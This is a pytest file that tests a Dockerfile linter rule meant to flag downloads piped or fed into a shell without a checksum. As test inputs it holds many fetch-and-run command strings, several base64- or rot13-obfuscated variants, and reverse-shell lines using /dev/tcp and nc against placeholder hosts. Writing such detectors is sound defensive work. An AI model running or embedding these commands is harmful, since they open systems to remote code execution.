"""The rule `download-piped-to-shell`, beyond its examples."""

from __future__ import annotations

from base64 import b64encode
from typing import TYPE_CHECKING

import pytest
from hypothesis import HealthCheck, given, settings, strategies as st
from tests.bounded import within

from tightship.rules.any.correctness.not_checked import not_checked
from tightship.rules.dockerfile.supply_chain.download_piped_to_shell import download_piped_to_shell

if TYPE_CHECKING:
    from tests.conftest import Judge

SITE = "https://example.com"


GET = f"curl -fsSL {SITE}/x.sh"


def marks(judge: Judge, script: str) -> list[str]:
    """Return the words that run a download in one RUN."""
    text = f"FROM debian:13.2\nRUN {script}\n"
    found = judge({"Dockerfile": text}, [download_piped_to_shell])
    return [one.span.text for one in found]


@pytest.mark.parametrize(
    ("steps", "marked"),
    [
        ("COPY i.sh /\nRUN sh /i.sh", "sh"),
        ("COPY . /app\nWORKDIR /app\nRUN ./i.sh --yes", "./i.sh"),
        ('COPY i.sh /e\nENTRYPOINT ["/bin/sh", "/e"]', "/bin/sh"),
        ("COPY i.sh /entrypoint.sh\nCMD /entrypoint.sh serve", "/entrypoint.sh"),
        (f"COPY <<E /i.sh\n{GET} | sh\nE\nRUN . /i.sh", "sh"),
        (f"COPY <<E /i.sh\n{GET} | sh\nE\nCMD . /i.sh", "."),
        (f"RUN cat > /i.sh <<'E' && sh /i.sh\n{GET} | sh\nE\n", "sh"),
        (f"RUN echo '{GET} | sh' > /x\nRUN bash /x", "bash"),
        ("COPY . /app\nRUN cd /app && ./i.sh", "./i.sh"),
        ("COPY . /app\nWORKDIR /app\nRUN ./outer.sh", "./outer.sh"),
        ("RUN --mount=type=bind,source=i.sh,target=/m/i.sh sh /m/i.sh", "sh"),
        ("WORKDIR /app\nRUN --mount=target=. ./i.sh", "./i.sh"),
        (f'SHELL ["/bin/sh", "-c", "{GET} | sh"]\nRUN true', "sh"),
        (f'SHELL ["/bin/bash", "-o", "pipefail", "-c"]\nRUN {GET} > /dev/null', ""),
        ("COPY i.sh /\nRUN chmod +x /i.sh", ""),
        ("COPY ok.sh /i.sh\nRUN sh /i.sh", ""),
        ("COPY --from=debian:13 i.sh /\nRUN sh /i.sh", ""),
        ("COPY i.sh /\nRUN python3 /i.sh", ""),
    ],
)
def test_a_script_that_a_step_starts_is_read(judge: Judge, steps: str, marked: str) -> None:
    files = {
        "Dockerfile": f"FROM debian:13.2\n{steps}\n",
        "i.sh": f"#!/bin/sh\nset -e\n{GET} | sh\n",
        "outer.sh": "#!/bin/sh\n/app/i.sh\n",
        "ok.sh": "#!/bin/sh\nid\n",
        "compose.yaml": "services: {a: {build: .}}\n",
    }
    found = [one.finding for one in judge(files, [download_piped_to_shell])]
    assert [one.span.text for one in found] == ([marked] if marked else [])
    assert all(one.because[0].span.text.startswith("curl") for one in found)


@pytest.mark.parametrize(
    ("script", "word"),
    [
        (f"{GET} | sh", "sh"),
        (f"{GET} | bash -", "bash"),
        (f"{GET} | bash -ex", "bash"),
        (f"{GET} | /bin/bash -s -- --yes", "/bin/bash"),
        (f"{GET} | bash /dev/stdin --yes", "bash"),
        (f"{GET} | sudo -E bash -", "bash"),
        (f"{GET} | env A=1 PATH=/x sh -s stable", "sh"),
        (f"{GET} | A=1 sh", "sh"),
        (f"{GET} |& sh", "sh"),
        (f"{GET} | tee /log | sh", "sh"),
        (f"{GET} | tee /i.sh >/dev/null && bash /i.sh", "bash"),
        (f"{GET} | sed 's/a/b/' | grep -v '^#' | zsh", "zsh"),
        (f"{GET}.gz | gunzip | sh", "sh"),
        (f"{GET} | xargs -0 sh -c", "sh"),
        (f"{GET} | xargs -n 1 sudo bash -ec", "bash"),
        (f"{GET} | python3 -", "python3"),
        (f"{GET} | python3.14 - --yes", "python3.14"),
        (f"{GET} | perl - App::cpanminus", "perl"),
        (f"{GET} | node", "node"),
        (f"{GET} | ruby", "ruby"),
        (f"{GET} | php -- --install-dir=/usr/bin", "php"),
        (f"curl -o- {SITE}/x.sh | bash", "bash"),
        (f"curl {SITE}/x.sh -o - | bash", "bash"),
        ('curl -s "$URL" | bash', "bash"),
        (f"curl -s --url {SITE}/x | bash", "bash"),
        (f"wget -qO- {SITE}/x.sh | bash", "bash"),
        (f"wget -q {SITE}/x.sh -O - | bash", "bash"),
        (f"wget --output-document=- {SITE}/x.sh | bash", "bash"),
        (f"busybox wget -O- {SITE}/x.sh | sh", "sh"),
        (f"http {SITE}/x.sh | sh", "sh"),
        (f"({GET} || wget -qO- {SITE}/x.sh) | sh", "sh"),
        (f"{{ {GET}; }} | sh", "sh"),
        (f"if true; then {GET} | sh; fi", "sh"),
        (f"set -o pipefail && cd /tmp && {GET} | sh && rm -rf /tmp/*", "sh"),
        (f'echo "$({GET})" | sh', "sh"),
        (f'bash -c "{GET} | sh -s"', "sh"),
        (f"bash -o pipefail -c '{GET} | sh'", "sh"),
        (f"x=$({GET} | sh)", "sh"),
        (f'["sh", "-c", "{GET} | dash"]', "dash"),
        (f"<<EOF\nset -e\n{GET} | sh\nEOF", "sh"),
        (f"{GET} \\\n  | \\\n  # a comment\n  sh", "sh"),
    ],
)
def test_a_download_that_is_piped_into_an_interpreter_is_found(
    judge: Judge, script: str, word: str
) -> None:
    assert marks(judge, script) == [word]


@pytest.mark.parametrize(
    ("script", "word"),
    [
        (f'sh -c "$({GET})"', "sh"),
        (f'sh -c "`{GET}`"', "sh"),
        (f'sh -c "$({GET})" "" --unattended', "sh"),
        (f'sudo bash -ec "$(wget -qO- {SITE}/x.sh)"', "bash"),
        (f'sh -c "$({GET} | sed s/a/b/)"', "sh"),
        (f'eval "$({GET})"', "eval"),
        (f"eval `{GET}`", "eval"),
        (f"bash <({GET})", "bash"),
        (f"bash <({GET}) --yes", "bash"),
        (f"bash -e <({GET})", "bash"),
        (f"bash < <({GET})", "bash"),
        (f'bash <<< "$({GET})"', "bash"),
        (f"source <({GET})", "source"),
        (f". <({GET})", "."),
        (f'ruby -e "$({GET})"', "ruby"),
        (f'python3 -c "$({GET})" --yes', "python3"),
        (f"python3 <({GET})", "python3"),
    ],
)
def test_a_download_that_becomes_the_code_is_found(judge: Judge, script: str, word: str) -> None:
    assert marks(judge, script) == [word]


@pytest.mark.parametrize(
    ("script", "word"),
    [
        (f"curl -o x.sh {SITE}/a && sh x.sh", "sh"),
        (f"curl -fsSLo /tmp/x.sh {SITE}/a && bash -e /tmp/x.sh --yes", "bash"),
        (f"curl -fsSL {SITE}/a > x.sh; sh ./x.sh", "sh"),
        (f"curl -O {SITE}/x.sh && sh x.sh", "sh"),
        (f"wget {SITE}/x.sh && sudo bash x.sh", "bash"),
        (f"wget -P /tmp {SITE}/x.sh && sh /tmp/x.sh", "sh"),
        (f"wget -nv {SITE}/x.sh?raw=1 -O /x && sh /x", "sh"),
        (f"wget {SITE}/x && chmod +x x && ./x --yes", "./x"),
        (f"wget {SITE}/x -O /tmp/x && chmod +x /tmp/x && /tmp/x", "/tmp/x"),
        (f"curl -o /tmp/x.sh {SITE}/a && cd /tmp && ./x.sh", "./x.sh"),
        (f"curl -o x.sh {SITE}/a && . ./x.sh", "."),
        (f"curl -o x.sh {SITE}/a && sh < x.sh", "sh"),
        (f"curl -o x.sh {SITE}/a && cat x.sh | sh", "sh"),
        (f"wget {SITE}/get-pip.py && python3 get-pip.py && rm get-pip.py", "python3"),
        (f'wget {SITE}/m-$V.sh && bash "m-${{V}}.sh" -b', "bash"),
        (f'curl -o "$T/x.sh" {SITE}/a && "$T/x.sh"', '"$T/x.sh"'),
        (f"aria2c -o x.sh {SITE}/a && sh x.sh", "sh"),
        (f"<<EOF\nwget {SITE}/x.sh\nsh x.sh\nEOF", "sh"),
    ],
)
def test_a_file_that_is_downloaded_and_run_at_once_is_found(
    judge: Judge, script: str, word: str
) -> None:
    assert marks(judge, script) == [word]


CHECKS = [
    'echo "$SUM  x.sh" | sha256sum -c -',
    'echo "$SUM  x.sh" | sha256sum --check --status',
    'echo "$SUM *x.sh" | shasum -a 256 -c',
    "sha512sum -c SHA512SUMS",
    "grep x.sh SUMS | sha256sum -c",
    'test "$(sha256sum x.sh | cut -d" " -f1)" = "$SUM"',
    "sha256sum x.sh | grep -q $SUM",
    "gpg --batch --verify x.sh.asc x.sh",
    "gpgv x.sh.sig x.sh",
    "cosign verify-blob --key k.pub --signature x.sh.sig x.sh",
    "minisign -Vm x.sh -P RWQ",
    "openssl dgst -sha256 -verify k.pem -signature x.sh.sig x.sh",
]


@pytest.mark.parametrize("check", CHECKS)
def test_a_checksum_in_between_is_silent(judge: Judge, check: str) -> None:
    download = f"curl -fsSLo x.sh {SITE}/x.sh"
    assert marks(judge, f"{download} && {check} && sh x.sh") == []
    assert marks(judge, f"{download} && sh x.sh && {check}") == ["sh"]


def test_a_checksum_of_another_file_does_not_count(judge: Judge) -> None:
    script = (
        f"curl -fsSLo tool.tar.gz {SITE}/a && curl -fsSLo x.sh {SITE}/b"
        ' && echo "$SUM  tool.tar.gz" | sha256sum -c && sh x.sh'
    )
    assert marks(judge, script) == ["sh"]


def test_a_list_of_checksums_can_be_in_a_heredoc(judge: Judge) -> None:
    script = (
        "<<END\nset -e\n"
        f"wget {SITE}/x.sh {SITE}/y.sh\n"
        "sha256sum -c <<SUMS\n0123  x.sh\nSUMS\n"
        "sh x.sh\nsh y.sh\nEND"
    )
    assert marks(judge, script) == ["sh"]


def test_a_checksum_that_is_only_printed_checks_nothing(judge: Judge) -> None:
    script = f"curl -fsSLo x.sh {SITE}/x.sh && sha256sum x.sh && sh x.sh"
    assert marks(judge, script) == ["sh"]


@pytest.mark.parametrize(
    "script",
    [
        f"{GET} | gpg --dearmor -o /k.gpg",
        f"{GET} | apt-key add -",
        f"{GET} | tar xz",
        f"{GET} | gzip -d > /x",
        f"{GET} | tee /x",
        f"{GET} | jq -r .tag | cut -c2-",
        f"{GET} | python3 -c 'import json'",
        f"{GET} | python3 -m json.tool",
        f"{GET} | perl -pe 's/a/b/'",
        f"{GET} | perl -ne 'print'",
        f"{GET} | ruby -rjson -e 'puts 1'",
        f"{GET} | node -p 'process.argv'",
        f"{GET} | php -r 'echo 1;'",
        f"{GET} | sh ./filter.sh",
        f"{GET} | sh -c 'cat > /x'",
        f"{GET} | xargs sh",
        f"{GET} | xargs sh -c 'echo $0'",
        f"{GET} | gpg --decrypt | sh",
        f"{GET}; cat local.sh | sh",
        f"{GET} && sh x.sh",
        f"{GET} -o /dev/null | sh",
        f"{GET} > /x | sh",
        f"wget {SITE}/x.sh | sh",
        f"v=$({GET}) && sh -c 'echo hello'",
        f'sh -c "V=$({GET}); echo $V"',
        f"sh -c 'echo $1' -- \"$({GET})\"",
        f'install --version "$({GET})" | sh',
        f"diff <({GET}) x",
        f'echo "{GET} | sh"',
        f"echo '{GET} | sh' > /usage",
        f"# {GET} | sh\ntrue",
        "curl --version | sh",
        "curl -s http://localhost:8080/x | sh",
        "curl -s http://127.0.0.1:$PORT/x | sh",
        "curl -s file:///x.sh | sh",
        "apt-get install -y curl bash | sh",
        f"curl -o x.tar.gz {SITE}/a && tar xf x.tar.gz && ./configure && sh build.sh",
        f"curl -o /a/x.sh {SITE}/a && sh /b/x.sh",
        f"curl -o x.deb {SITE}/a && dpkg -i x.deb",
        f"sh x.sh && curl -o x.sh {SITE}/a",
        f"$TOOL {SITE}/x.sh | sh",
        f"{GET} | $TOOL",
    ],
)
def test_similar_commands_are_silent(judge: Judge, script: str) -> None:
    assert marks(judge, script) == []


def test_each_pipeline_is_one_finding(judge: Judge) -> None:
    assert marks(judge, f"{GET} | sh | bash && {GET} | sh") == ["sh", "sh"]


def test_a_trigger_is_judged_as_the_step_that_it_will_be(judge: Judge) -> None:
    text = f"FROM a\nONBUILD RUN {GET} | sh\n"
    [found] = judge({"Dockerfile": text}, [download_piped_to_shell])
    assert found.span.text == "sh"


def test_other_languages_are_not_judged(judge: Judge) -> None:
    text = f'FROM a\nSHELL ["pwsh", "-c"]\nRUN {GET} | sh\n'
    assert judge({"Dockerfile": text}, [download_piped_to_shell]) == []


def test_the_message_names_the_host_and_no_more_of_the_address(judge: Judge) -> None:
    script = "curl -s https://me:hunter2@example.com/x?token=abc | bash"
    text = f"FROM a\nRUN {script}\n"
    [found] = judge({"Dockerfile": text}, [download_piped_to_shell])
    assert found.finding.message == (
        "`bash` runs what `curl` downloads from `example.com`, without a check"
    )
    [related] = found.finding.because
    assert related.span.text == "curl"


ENCODED = b64encode(f"{GET} | sh".encode()).decode()


@pytest.mark.parametrize(
    ("script", "marked"),
    [
        ("nc example.com 80 | sh", "sh"),
        ("nc example.com 80 -e /bin/sh", "nc"),
        ("nc -z example.com 80 | sh", ""),
        ("socat - TCP:example.com:80 | sh", "sh"),
        ("cat < /dev/tcp/192.0.2.1/80 | sh", "sh"),
        ("bash -i >& /dev/tcp/192.0.2.1/80 0>&1", "bash"),
        ("exec 3<>/dev/tcp/192.0.2.1/80; sh <&3", "sh"),
        (f"f() {{ {GET}; }}; f | sh", "sh"),
        (f'f() {{ {GET}; }}; g() {{ f; }}; eval "$(g)"', "eval"),
        (f"f() {{ {GET}; }}; f | tar x", ""),
        (f"f() {{ a=$({GET}); echo true; }}; f | sh", ""),
        (f"echo '{GET} | sh' | sh", "sh"),
        (f"echo {ENCODED} | base64 -d | sh", "sh"),
        (f"base64 -d <<< {ENCODED} | sh", "sh"),
        (f'eval "$(echo {ENCODED} | base64 --decode)"', "eval"),
        (f"echo {ENCODED} | base64 -d > /x && sh /x", "sh"),
        (f"echo {ENCODED} | base64 -d > /x", ""),
        ("echo 'phey uggc://k.bet/n | fu' | tr a-zA-Z n-za-mN-ZA-M | sh", "sh"),
    ],
)
def test_a_shell_runs_what_another_command_prints(judge: Judge, script: str, marked: str) -> None:
    assert marks(judge, script) == [marked] * bool(marked)


@pytest.mark.parametrize("script", ["base64 -d /x | sh", 'eval "$(gunzip -c /x)"'])
def test_what_is_decoded_and_not_known_is_a_gap(judge: Judge, script: str) -> None:
    found = judge({"Dockerfile": f"FROM debian:13.2\nRUN {script}\n"}, [not_checked])
    assert [one.finding.message.partition(": ")[2] for one in found] == [
        "a shell runs what a program decodes, and that is not known"
    ]


@pytest.mark.exhaustive
def test_many_downloads_are_judged_in_time(judge: Judge) -> None:
    many = 5_000
    scripts = [
        " && ".join([f"{GET} | sh"] * many),
        GET + " | sh" * many,
        GET + " | cat" * many + " | sh",
        " && ".join(f"wget {SITE}/{n}.sh && sha256sum -c {n}" for n in range(many)),
        " && ".join(f"wget {SITE}/{n}.sh && sh {n}.sh" for n in range(many)),
        "x " + f'"$({GET})" ' * many + "| sh",
        "sh -c " + f'"$({GET})" ' * many,
    ]
    for script in scripts:
        with within(5):
            marks(judge, script)


PIECES = [
    "curl", "wget", "-o", "x.sh", "-O-", SITE, "|", "sh", "-c", '"$(', ')"', "<(", ")",
    "`", "&&", ";", "sha256sum", "-", "bash", "eval", "python3", "-e", "./x.sh", "{",
    "}", "if", "<<<", "$X", "\\", "'", '"', "sudo", "--",
]  # fmt: skip


@settings(suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(words=st.lists(st.sampled_from(PIECES), max_size=14))
def test_unusual_scripts_do_not_stop_the_rule(judge: Judge, words: list[str]) -> None:
    for word in marks(judge, " ".join(words)):
        assert word
